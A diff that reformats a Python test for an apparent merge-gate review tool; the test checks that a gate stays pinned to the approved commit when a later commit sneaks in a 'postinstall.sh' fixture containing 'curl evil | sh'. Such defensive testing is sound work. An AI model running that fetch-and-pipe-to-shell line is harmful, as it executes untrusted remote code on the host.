@@ -22,13 +22,18 @@ def test_the_diff_while_a_merge_gate_asks_is_the_pinned_one(repo_team):
     late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")
     store = repo.store()
     try:
-        for diff in (merges.card_diff(store, 1), merges.card_diff(store, 1, 1)):  # the card's pending gate, and G-1 by id
+        for diff in (
+            merges.card_diff(store, 1),
+            merges.card_diff(store, 1, 1),
+        ):  # the card's pending gate, and G-1 by id
             assert diff.asked == "G-1" and diff.summary.pin == (asked, base)
             assert [f.path for f in diff.summary.files] == ["src/app.py"] and "postinstall.sh" not in diff.patch
             assert diff.moved == (late, base)
     finally:
         store.close()
-    assert repo.cli("gate", "answer", "G-1", "approve", tty=True).data["error"]["code"] == "merge_moved"  # asked again: G-2
+    assert (
+        repo.cli("gate", "answer", "G-1", "approve", tty=True).data["error"]["code"] == "merge_moved"
+    )  # asked again: G-2
     store = repo.store()
     try:
         diff = merges.card_diff(store, 1)
